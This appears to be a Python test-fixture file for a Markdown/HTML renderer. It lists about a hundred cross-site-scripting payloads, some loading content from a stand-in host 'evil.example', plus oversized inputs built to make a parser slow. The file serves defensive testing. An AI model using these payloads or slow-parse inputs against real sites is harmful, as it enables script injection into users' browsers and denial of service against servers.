"""Texts that try to become more than text, and texts that try to keep the server busy."""

from collections.abc import Iterator

XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<image/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!DOCTYPE html><x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "</p></li></div><script>alert(1)</script>",
    "<a href=\"http://x.org\" onclick=\"alert(1)\">x</a>",
    "<",
    "<a",
    "<a href='",
    "</",
    "<\x00script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:1)",
    "[x](javascript:1)",
    "[x](javascript\u200b:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](javascript&#x3a;1)",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x202e;javascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( \tjavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://x.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x.org/1)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](http://x.org\" onclick=\"alert(1))",
    "[x](http://x.org 'title\" onclick=\"alert(1)')",
    "[x\" onclick=\"alert(1)](http://x.org)",
    "[x](http://x.org/\"><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](http://x.org)",
    "[x](mailto:a@b.c?body=<script>)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](http://x.org/i.png)",
    "![x](http://x.org/i.png\"onerror=\"alert(1))",
    "![<script>alert(1)</script>](x)",
    "<javascript:alert(1)>",
    "<javascript://x.org/%0aalert(1)>",
    "<http://x.org/\"onclick=\"alert(1)>",
    "<me@x.org\"onclick=\"alert(1)>",
    "http://a\" onclick=1",
    "http://x.org/'onmouseover='alert(1)'",
    "http://x.org/<script>alert(1)</script>",
    "www.x.org\" onclick=\"alert(1)",
    "a@b.org\" onclick=\"alert(1)",
    "javascript:alert(1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: http://x.org/\"onclick=alert(1) 'x'\n\n[y]",
    "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
    "``` {.x onclick=alert(1)}\nx\n```",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <script> | b |\n|:---:|---|\n| onclick=\" | `</td>` |",
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "*<img src=x onerror=alert(1)>*",
    "@amina\"onclick=alert(1) #47\"onclick=alert(1)",
    "@<script> #<script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "&#2;wzxhzdk:0&#3; `x` ```\n<b>\n```",
    "\ud800<b>\udfff",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)  # fmt: skip

_SIZE = 20_000


def _filled(unit: str, size: int = _SIZE) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def busy_work() -> Iterator[tuple[str, str]]:
    """Names and texts of at most 20,000 characters that make a careless parser slow."""
    for unit in (
        *(
            "[",
            "![",
            "[a](",
            "[a](b",
            "[]",
            "<![CDATA[",
            "`",
            "*a",
            "**",
            "_",
            "_a",
            "~~a",
            "> ",
            ">",
        ),
        *(
            "- ",
            "+ \t",
            "| a ",
            "|",
            "&",
            "&a;",
            "<",
            "<a ",
            "http://",
            "http://a ",
            "www.a ",
            "@a ",
        ),
        *(
            "a@",
            "a@b.c ",
            "#1 ",
            "# x\n",
            "---\n",
            "=\n",
            "a\n-\n",
            "a\n",
            "a  \n",
            "\\*",
            "1. a\n",
        ),
        *("> a\n", "```x\n", "`a` ", "<http://a>", "<a@b>", "a|b\n", "\u3000", "\t", "😀\\*", "a."),
    ):
        yield repr(unit), _filled(unit)
    yield "10 kB of [", "[" * 10_000
    yield "a fence and spaces", "```" + " " * 4_300 + "\n" + " " * 15_000 + "x"
    yield "backticks of every length", "".join("`" * n + " " for n in range(1, 198))
    yield "fences of every length", "".join("`" * n + "\n" for n in range(197, 2, -1))
    yield "a table of 12 million cells", "a|" * 2_500 + "\n" + "-|" * 2_500 + "\n" + "|\n" * 4_990
    yield "299 brackets before words", "[" * 299 + "a" * 19_000
    yield "299 links that never end", ("[a](" + "x" * 60) * 299
    yield "a definition that never ends", "[a]: " + '"' * 19_000 + " x"
    yield "a title that never ends", '[a](b "' + '"' * 19_000
    yield "parentheses", "[a](" + "(" * 19_000
    yield "an entity of 19,000 digits", "&#" + "1" * 19_000 + ";"
    yield "emphasis in emphasis", "*a " * 600 + "a* " * 600
    yield "mixed emphasis", "*a _b **c __d " * 100 + "a* b_ c** d__ " * 100
    yield "a list in a list", "".join("    " * n + "- a\n" for n in range(60))
    yield "one word", "x" * _SIZE
    yield "one address", "http://x.org/" + "." * 19_000
    yield "closing parentheses", "http://x.org/" + ")" * 19_000
    yield "a heading of spaces", "# " + " " * 19_000 + "x"
    yield "a handle of dots", "@" + "a." * 9_000
